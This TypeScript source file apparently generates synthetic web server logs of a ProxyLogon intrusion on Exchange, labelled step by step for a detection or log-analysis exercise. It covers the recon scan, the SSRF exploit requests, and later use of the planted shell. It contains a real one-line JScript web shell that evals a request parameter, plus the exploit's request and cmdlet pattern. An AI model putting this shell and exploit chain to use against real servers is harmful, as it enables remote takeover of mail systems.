import { request, type Context } from './context.ts';
import type { EcpRow, Request } from './request.ts';
import { resetCmdlets } from './server-traffic.ts';
import { FIRST_DAY, DAY_MS, HOUR_MS } from './server.ts';

const ATTACKER = '203.0.113.77';
const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36';
const SCRIPT = `http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>`;
const IDENTITY = 'ecd24641-d37f-4974-89f5-2e85ef7fb8d4';

/**
 * ProxyLogon from recon to shell use, with the pace and the traces of a public report of March 2021: the scan on the evening before, twelve
 * seconds of exploit, a look at the shell, and its use from other addresses on the next night.
 */
export function intrusion(context: Context): Request[] {
  return [...recon(context), ...exploit(context), ...shellUse(context)];
}

function recon(context: Context): Request[] {
  const time = FIRST_DAY + 22 * HOUR_MS + 14 * 60_000;
  const scanner = { address: '203.0.113.40', userAgent: 'python-requests/2.25.1', host: context.server.address };
  return [
    request(context, { ...scanner, time, stem: '/rpc/', status: 401, planted: 'recon: name of the server' }),
    request(context, { ...scanner, time: time + 1_400, protocol: 'Owa', stem: '/owa/auth/x.js', status: 500, anchor: 'ServerInfo~localhost/ecp/default.flt?', routingHint: 'X-AnonResource-Backend-Cookie', planted: 'recon: is it vulnerable' }),
  ];
}

function exploit(context: Context): Request[] {
  const { server, random } = context;
  const fqdn = `${server.name}.contoso.example`;
  const machine = `CONTOSO\\${server.name}$`;
  const canary = `${random.hex(20)}.`;
  const start = FIRST_DAY + DAY_MS + 6 * HOUR_MS + 59 * 60_000 + 10_817;
  const service = '/ecp/DDI/DDIService.svc';
  // The back end's own log gives away what was done in the control panel; proxyLogon.ecp itself is called by servers all the time.
  const step = (after: number, planted: string, { stem, query, status = 200, ecp = [] }: BackEndStep): Request =>
    request(context, {
      time: start + after,
      protocol: 'Ecp',
      host: 'autodiscover.contoso.example',
      method: 'POST',
      stem: '/ecp/y.js',
      address: ATTACKER,
      userAgent: after === 0 ? 'ExchangeServicesClient/0.0.0.0' : 'python-requests/2.25.1',
      status,
      anchor: `ServerInfo~a]@${fqdn}:444${stem}?${query ?? ''}#`,
      routingHint: 'X-BEResource-Cookie',
      backEnd: { method: 'POST', stem, ...(query !== undefined && { query }), user: machine, status, ...(stem.startsWith('/ecp/') && { planted: stem.startsWith(service) ? planted : `${planted}, told by its client` }) },
      ecp,
      planted,
    });
  const edit = (name: string, ecp: readonly EcpRow[]): BackEndStep => ({
    stem: `${service}/SetObject`,
    query: `msExchEcpCanary=${canary}&schema=${name}`,
    ecp,
  });
  const read: EcpRow = { after: -20, command: `Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity='${IDENTITY}'` };
  const script: EcpRow = { after: -82, command: `Set-OabVirtualDirectory.ExternalUrl='${SCRIPT}'.Identity='${IDENTITY}'`, planted: 'write: script into the address' };
  return [
    step(0, 'ssrf: autodiscover', { stem: '/autodiscover/autodiscover.xml' }),
    step(1_023, 'ssrf: mapi', { stem: '/mapi/emsmdb/' }),
    step(2_213, 'ssrf: control panel session', { stem: '/ecp/proxyLogon.ecp', status: 241 }),
    step(3_771, 'ssrf: virtual directory read', { stem: `${service}/GetObject`, query: `msExchEcpCanary=${canary}&schema=OABVirtualDirectory`, ecp: [read] }),
    step(7_225, 'write: script into the address', edit('OABVirtualDirectory', [script, read])),
    // From here on the cmdlets are those of an administrator's reset.
    step(9_542, 'write: reset writes the shell', edit('ResetOABVirtualDirectory', resetCmdlets(server.name))),
    step(12_471, 'cleanup: address taken away', edit('OABVirtualDirectory', [{ after: -76, command: `Set-OabVirtualDirectory.ExternalUrl=$null.Identity='${IDENTITY}'` }])),
  ];
}

/** Where the front end was made to send a request. */
interface BackEndStep {
  readonly stem: string;
  readonly query?: string;
  readonly status?: number;
  readonly ecp?: readonly EcpRow[];
}

function shellUse(context: Context): Request[] {
  const shell = { protocol: 'Owa' as const, stem: '/owa/auth/RedirSuiteServerProxy.aspx', userAgent: BROWSER };
  const looked = FIRST_DAY + DAY_MS + 7 * HOUR_MS + 96_000;
  const night = FIRST_DAY + 2 * DAY_MS + 3 * HOUR_MS + 6 * 60_000;
  return [
    request(context, { ...shell, time: looked, address: ATTACKER, planted: 'shell: is it there' }),
    request(context, { ...shell, time: night, address: '198.51.100.202', planted: 'shell: looked at by others' }),
    ...[4_000, 21_000, 95_000].map((after) =>
      request(context, { ...shell, time: night + after, method: 'POST', address: '198.51.100.202', planted: 'shell: command' }),
    ),
    request(context, { time: night + 300_000, stem: '/aspnet_client/supp0rt.aspx', method: 'POST', userAgent: 'antSword/v2.1', address: '198.51.100.203', planted: 'shell: second shell' }),
    request(context, { ...shell, time: night + 12 * HOUR_MS, stem: '/owa/auth/OutlookEN.aspx', address: '192.0.2.201', status: 302, planted: "recon: somebody else's shell" }),
  ];
}
